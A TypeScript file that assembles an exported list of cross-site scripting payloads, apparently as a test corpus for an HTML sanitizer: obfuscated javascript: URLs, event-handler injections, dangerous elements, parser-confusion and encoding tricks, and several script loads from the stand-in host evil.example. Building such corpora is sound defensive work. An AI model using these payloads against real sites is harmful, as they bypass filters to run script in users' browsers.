/** Markup that could run scripts in a browser: URLs × elements, handlers × elements, single elements, broken tags. */

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  ' \t\njavascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\0script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61;vascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'java&Tab;script&colon;alert(1)',
  'javascript&#58alert(1)',
  'feed:javascript:alert(1)',
  'blob:https://x.example/1',
  '//evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example\\x',
  '&#47;&#47;evil.example',
];
const WITH_ADDRESS = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<img src='${address}'>`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
];

const HANDLERS = ['onclick', 'onerror', 'ONLOAD', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin'];
const WITH_HANDLER = [
  (handler: string) => `<b ${handler}=alert(1)>x</b>`,
  (handler: string) => `<img src=x ${handler}=alert(1)>`,
  (handler: string) => `<img/src="x"/${handler}="alert(1)"/>`,
  (handler: string) => `<p title="a"${handler}='alert(1)'>x`,
  (handler: string) => `<td\n${handler}\n=\n"alert(1)" colspan=2>x`,
  (handler: string) => `<details open ${handler}=alert(1) <b>x`,
];

const ELEMENTS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<SCRIPT/x>alert(1)</SCRIPT >',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<math href="javascript:alert(1)"><mi>x</mi></math>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
  '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>',
  '<template><img src=x onerror=alert(1)></template>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<a href="https://x.example/" target=_blank id=location name=cookie>x</a>',
];

const BROKEN = [
  '<img src=x onerror=alert(1)',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<b <script>alert(1)</script>>',
  '</p <img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e "<script>">]>&e;',
  '<a title="</a><img src=x onerror=alert(1)>">x</a>',
  `<a title='">' href="javascript:alert(1)">x</a>`,
  '<a title=`> <img src=x onerror=alert(1)>`>x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><b title="</style><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<textarea><b title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><b title="</xmp><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<svg></p><style><g title="</style><img src=x onerror=alert(1)>">',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<table><td><a href=x><table><a href="javascript:alert(1)">x',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a\u000chref="javascript:alert(1)">x</a>',
  '<a href\u0000="javascript:alert(1)">x</a>',
  '<\u0000script>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u202e<img src=x onerror=alert(1)>',
  '<img src=x onerror\u2028=alert(1)>',
];

const product = <Part>(parts: readonly Part[], forms: readonly ((part: Part) => string)[]) =>
  forms.flatMap((form) => parts.map((part) => form(part)));

export const HTML_ATTACKS: readonly string[] = [
  ...product(ADDRESSES, WITH_ADDRESS),
  ...product(HANDLERS, WITH_HANDLER),
  ...ELEMENTS,
  ...BROKEN,
];
